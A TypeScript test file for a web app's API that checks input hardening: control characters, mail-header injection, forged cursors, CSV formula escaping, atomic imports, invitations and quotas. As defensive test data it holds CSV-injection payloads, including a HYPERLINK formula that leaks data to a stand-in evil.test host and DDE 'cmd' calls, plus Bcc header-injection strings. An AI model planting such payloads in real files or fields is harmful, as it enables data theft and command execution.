import Papa from 'papaparse';
import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { KeepersService } from '../../server/features/keepers/keepers.service';
import { PHOTO_QUOTA } from '../../server/features/photos/photos.service';
import { encodeCursor } from '../../server/lib/cursor';
import { oneLine } from '../../server/lib/mail';
import { DEFAULT_LIMITS } from '../../server/lib/rate-limit';
import { createHunt, openTestApi, postBatch, registerAdmin, registerUser, scanOf, type TestApi, type TestUser } from '../support/api';
import { drawPng } from '../support/images';
import { MemoryMailer } from '../support/mail';

let api: TestApi;
let owner: TestUser;
const mailer = new MemoryMailer();

beforeAll(async () => {
  api = await openTestApi({ mailer });
  owner = await registerUser(api.app, 'hostile');
});
afterAll(async () => {
  await api.close();
});

/** The sender's own hunts, keepers and watch patterns (other test files write to the same tables at the same time). */
async function ownersRows(): Promise<{ hunts: number; keepers: number; watch: number }> {
  const [row] = await api.dataSource.query(
    `SELECT (SELECT count(*)::int FROM hunts WHERE owner_id = $1) AS hunts, (SELECT count(*)::int FROM keepers WHERE user_id = $1) AS keepers,
            (SELECT count(*)::int FROM watch_patterns WHERE user_id = $1) AS watch`,
    [owner.id],
  );
  return row;
}

describe('control characters in text', () => {
  it.each([
    ['a NUL in a hunt title', '/api/hunts', { title: 'Tuesday\u0000straps', source: 'Larkspur Valley CU', denomination: 1, plannedStraps: 2 }, 'title'],
    ['a line break in a hunt title', '/api/hunts', { title: 'Tuesday\r\nBcc: someone@elsewhere.test', source: 'Larkspur', denomination: 1, plannedStraps: 2 }, 'title'],
    ['a bell character in a keeper serial', '/api/keepers', { serial: '7777\u00077777' }, 'serial'],
    ['a NUL in a keeper note', '/api/keepers', { serial: '77777777', notes: 'first line\n\u0000second' }, 'notes'],
    ['an escape sequence in a watch label', '/api/watch', { pattern: '1000-2000', label: 'bold \u001b[1m' }, 'label'],
  ])('when %s arrives, then 400 names the field and nothing is stored', async (_label, path, body, field) => {
    const before = await ownersRows();

    const response = await request(api.app).post(path).set(owner.auth).send(body);

    expect(response.status).toBe(400);
    expect(response.body.error.fields).toHaveProperty(field);
    expect(await ownersRows()).toEqual(before);
  });

  it('when a note runs over several lines, then it is kept as written', async () => {
    const response = await request(api.app).post('/api/keepers').set(owner.auth).send({ serial: '12344321', notes: 'found in strap 3\r\nsecond look tomorrow' });
    expect(response.status).toBe(201);
    expect(response.body.notes).toBe('found in strap 3\r\nsecond look tomorrow');
  });

  it('when a NUL comes in a sign-up name or the query string, then 400 names it (it used to be a 500 with the query logged)', async () => {
    const signup = await request(api.app).post('/api/auth/register').send({ email: 'nul@strapsift.test', password: 'long-enough-pass', displayName: 'Nul\u0000Name' });
    const search = await request(api.app).get('/api/keepers').query({ query: 'a\u0000b' }).set(owner.auth);
    expect(signup.status).toBe(400);
    expect(signup.body.error.fields).toHaveProperty('displayName');
    expect(search.status).toBe(400);
    expect(search.body.error.fields).toHaveProperty('query');
  });

  it('when a name in a mail subject holds line breaks, then the subject is one line', async () => {
    const host = await registerUser(api.app, 'subject');
    const hunt = await createHunt(api.app, host);
    // Straight into the database: the API refuses such a name, so this is the defence behind the check.
    await api.dataSource.query(`UPDATE users SET display_name = $2 WHERE id = $1`, [host.id, 'Eve\r\nBcc: victim@elsewhere.test']);

    await request(api.app).post(`/api/hunts/${hunt.id}/invites`).set(host.auth).send({ email: 'subject-invitee@strapsift.test' }).expect(201);

    const subject = mailer.sent.find((mail) => mail.to === 'subject-invitee@strapsift.test')!.subject;
    expect(subject).not.toMatch(/[\r\n]/);
    expect(subject).toBe('Eve Bcc: victim@elsewhere.test invites you to a Strapsift hunt');
    expect(oneLine('a\u2028b\u0085c')).toBe('a b c');
  });
});

describe('cursors that do not parse', () => {
  it('when a list gets a cursor that is junk, forged with an impossible time, or of the wrong kind for its sort, then 400 names the cursor', async () => {
    const admin = await registerAdmin(api);
    const hunt = await createHunt(api.app, owner);
    const uuid = '00000000-0000-4000-8000-000000000000';
    const cases: Array<[string, TestUser]> = [
      ['/api/hunts?cursor=%%%', owner],
      [`/api/hunts?cursor=${encodeCursor(['0000-01-01T00:00:00.000Z', uuid])}`, owner],
      [`/api/hunts/${hunt.id}/scans?cursor=${encodeCursor(['2026-13-01T00:00:00Z', uuid])}`, owner],
      [`/api/keepers?sort=newest&cursor=${encodeCursor(['not a time', uuid])}`, owner],
      [`/api/keepers?sort=points&cursor=${encodeCursor(['twelve', uuid])}`, owner],
      [`/api/admin/users?cursor=${Buffer.from(JSON.stringify([{ nested: true }])).toString('base64url')}`, admin],
    ];
    for (const [path, user] of cases) {
      const response = await request(api.app).get(path).set(user.auth);
      expect(response.status, path).toBe(400);
      expect(response.body.error.fields, path).toHaveProperty('cursor');
    }
  });
});

describe('CSV export against formulas', () => {
  it('when cells start with = + - @ tab or CR, multi-line ones included, then every one comes out as text with a leading apostrophe', async () => {
    const user = await registerUser(api.app, 'csv');
    // Values a spreadsheet would run (OWASP "CSV Injection" examples): a link, a DDE call, an @-function, sums.
    const formulas = {
      title: '=HYPERLINK("http://evil.test/?d="&A1,"Open")',
      source: "=cmd|' /C calc'!A0",
      note: '@SUM(1+1)*cmd|" /C calc"!A0\nsecond line of the note',
      series: '+1+1',
    };
    const hunt = await createHunt(api.app, user, { title: formulas.title, source: formulas.source });
    const keeper = await request(api.app).post('/api/keepers').set(user.auth).send({ serial: '24682468', notes: formulas.note }).expect(201);
    // Tab and CR starts cannot come through the API any more; written directly, they must still be escaped.
    const tabbed = await createHunt(api.app, user, { title: '-2+3' });
    const carriage = await request(api.app).post('/api/keepers').set(user.auth).send({ serial: '13571357' }).expect(201);
    await api.dataSource.query(`UPDATE hunts SET source = $2 WHERE id = $1`, [tabbed.id, '\t=1+1']);
    await api.dataSource.query(`UPDATE keepers SET notes = $2 WHERE id = $1`, [carriage.body.id, '\r=1+1']);
    await api.dataSource.query(`UPDATE keepers SET series = $2 WHERE id = $1`, [keeper.body.id, formulas.series]);
    const hunts = Papa.parse<Record<string, string>>((await request(api.app).get('/api/export/hunts.csv').set(user.auth).expect(200)).text, { header: true }).data;
    const keepers = Papa.parse<Record<string, string>>((await request(api.app).get('/api/export/keepers.csv').set(user.auth).expect(200)).text, { header: true }).data;

    const huntRow = hunts.find((row) => row.id === hunt.id)!;
    const keeperRow = keepers.find((row) => row.id === keeper.body.id)!;
    expect(huntRow.title).toBe(`'${formulas.title}`);
    expect(huntRow.source).toBe(`'${formulas.source}`);
    expect(keeperRow.note).toBe(`'${formulas.note}`);
    expect(keeperRow.series).toBe(`'${formulas.series}`);
    expect(hunts.find((row) => row.id === tabbed.id)).toMatchObject({ title: "'-2+3", source: "'\t=1+1" });
    expect(keepers.find((row) => row.id === carriage.body.id)!.note).toBe("'\r=1+1");
    // No cell of either file starts with a character a spreadsheet treats as a formula.
    for (const row of [...hunts, ...keepers]) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+@\t\r]/);
  });
});

describe('imports are atomic per part', () => {
  it('when a row in the middle of a part fails in the database, then no row of the part is stored, and the retry stores each once', async () => {
    const user = await registerUser(api.app, 'import-atomic');
    const hunt = await createHunt(api.app, user);
    const rows = Array.from({ length: 9 }, (_, index) => ({
      line: index + 2,
      occurrence: 0,
      serial: String(31_000_000 + index * 17),
      date: `2026-10-0${1 + (index % 5)}T10:00:00.000Z`,
      pulled: index === 4,
      note: index === 4 ? 'the row that fails' : null,
    }));
    const original = KeepersService.prototype.create;
    const failing = vi.spyOn(KeepersService.prototype, 'create').mockImplementation(async function (this: KeepersService, ...args) {
      if (args[1].notes === 'the row that fails') throw new Error('connection lost half-way through the part');
      return original.apply(this, args);
    });
    try {
      const broken = await request(api.app).post('/api/import/rows').set(user.auth).send({ huntId: hunt.id, rows });
      expect(broken.status).toBe(500);
    } finally {
      failing.mockRestore();
    }
    const [{ n: afterFailure }] = await api.dataSource.query(`SELECT count(*)::int AS n FROM scans WHERE hunt_id = $1`, [hunt.id]);
    expect(afterFailure).toBe(0);

    const retried = await request(api.app).post('/api/import/rows').set(user.auth).send({ huntId: hunt.id, rows });
    const again = await request(api.app).post('/api/import/rows').set(user.auth).send({ huntId: hunt.id, rows });

    expect(retried.status).toBe(200);
    expect(retried.body).toMatchObject({ stored: 9, keepers: 1 });
    expect(again.body).toMatchObject({ stored: 0, duplicates: 9, keepers: 0 });
  });
});

describe('invitations', () => {
  it('when someone other than the invited address accepts, then 403; when the hunt closes, the link is dead', async () => {
    const host = await registerUser(api.app, 'invite-host');
    const invitee = await registerUser(api.app, 'invite-right');
    const forwardedTo = await registerUser(api.app, 'invite-wrong');
    const hunt = await createHunt(api.app, host);
    await request(api.app).post(`/api/hunts/${hunt.id}/invites`).set(host.auth).send({ email: invitee.email }).expect(201);
    const token = /\/invite\/([A-Za-z0-9_-]{43})/.exec(mailer.sent.find((mail) => mail.to === invitee.email)!.text)![1]!;

    const wrong = await request(api.app).post(`/api/invites/${token}/accept`).set(forwardedTo.auth);
    expect(wrong.status).toBe(403);
    expect(wrong.body.error.code).toBe('wrong_account');

    await request(api.app).post(`/api/hunts/${hunt.id}/close`).set(host.auth).expect(200);
    const late = await request(api.app).post(`/api/invites/${token}/accept`).set(invitee.auth);
    expect(late.status).toBe(410);
    expect((await request(api.app).get(`/api/invites/${token}`)).body.status).toBe('expired');
    expect((await request(api.app).get(`/api/hunts/${hunt.id}`).set(invitee.auth)).status).toBe(404);
  });
});

describe('per-user quotas', () => {
  it('when an account already holds its photo allowance, then the next photo gets 413 saying why', async () => {
    const user = await registerUser(api.app, 'photo-quota');
    const keeper = await request(api.app).post('/api/keepers').set(user.auth).send({ serial: '13579135' }).expect(201);
    const other = await request(api.app).post('/api/keepers').set(user.auth).send({ serial: '97531975' }).expect(201);
    // The allowance, filled straight in the database (a thousand uploads through sharp would take minutes):
    // 500 copies of a keeper, each with a front and a back photo row.
    const columns: Array<{ column_name: string }> = await api.dataSource.query(
      `SELECT column_name FROM information_schema.columns WHERE table_name = 'keepers' AND column_name <> 'id' ORDER BY ordinal_position`,
    );
    const list = columns.map((c) => `"${c.column_name}"`).join(', ');
    await api.dataSource.query(`INSERT INTO keepers (id, ${list}) SELECT gen_random_uuid(), ${list} FROM keepers, generate_series(1, $2::int) WHERE id = $1`, [
      other.body.id,
      PHOTO_QUOTA.photos / 2,
    ]);
    await api.dataSource.query(
      `INSERT INTO photos (id, keeper_id, user_id, side, content_type, byte_size, width, height, object_key, thumb_key)
       SELECT gen_random_uuid(), k.id, $1, s.side, 'image/jpeg', 1000, 10, 10, 'k-' || k.id || s.side, 't-' || k.id || s.side
         FROM keepers k CROSS JOIN (VALUES ('front'), ('back')) AS s(side) WHERE k.user_id = $1 AND k.id <> $2 AND k.id <> $3`,
      [user.id, keeper.body.id, other.body.id],
    );
    const response = await request(api.app).post(`/api/keepers/${keeper.body.id}/photos`).set(user.auth).field('side', 'front').attach('photo', drawPng(), 'front.png');

    expect(response.status).toBe(413);
    expect(response.body.error.message).toMatch(/1,000 photos/);

    // Fewer photos, but two huge ones: the bytes allowance answers the same way.
    await api.dataSource.query(`DELETE FROM photos WHERE user_id = $1`, [user.id]);
    await api.dataSource.query(
      `INSERT INTO photos (id, keeper_id, user_id, side, content_type, byte_size, width, height, object_key, thumb_key)
       VALUES (gen_random_uuid(), $2, $1, 'front', 'image/jpeg', 1100000000, 10, 10, 'big-1', 'big-1t'),
              (gen_random_uuid(), $2, $1, 'back', 'image/jpeg', 1100000000, 10, 10, 'big-2', 'big-2t')`,
      [user.id, other.body.id],
    );
    const heavy = await request(api.app).post(`/api/keepers/${keeper.body.id}/photos`).set(user.auth).field('side', 'front').attach('photo', drawPng(), 'front.png');
    expect(heavy.status).toBe(413);
    expect(heavy.body.error.message).toMatch(/2 GB/);
  });

  it('when an account logs more notes in a day than its allowance, then 429 with Retry-After and a message', async () => {
    const tight = await openTestApi({ limits: { ...DEFAULT_LIMITS, scansPerUserPerDay: { points: 5, seconds: 24 * 60 * 60 } } });
    try {
      const user = await registerUser(tight.app, 'scan-quota');
      const hunt = await createHunt(tight.app, user);
      const first = await postBatch(tight.app, user, Array.from({ length: 5 }, (_, i) => scanOf(hunt.id, String(40_000_000 + i * 31))));
      const over = await postBatch(tight.app, user, [scanOf(hunt.id, '49999999')]);
      expect(first.status).toBe(200);
      expect(over.status).toBe(429);
      expect(Number(over.headers['retry-after'])).toBeGreaterThan(0);
      expect(over.body.error.message).toMatch(/notes in a day/);
      // Nothing of the refused batch was stored.
      expect((await tight.dataSource.query(`SELECT count(*)::int AS n FROM scans WHERE hunt_id = $1`, [hunt.id]))[0].n).toBe(5);
    } finally {
      await tight.close();
    }
  });
});
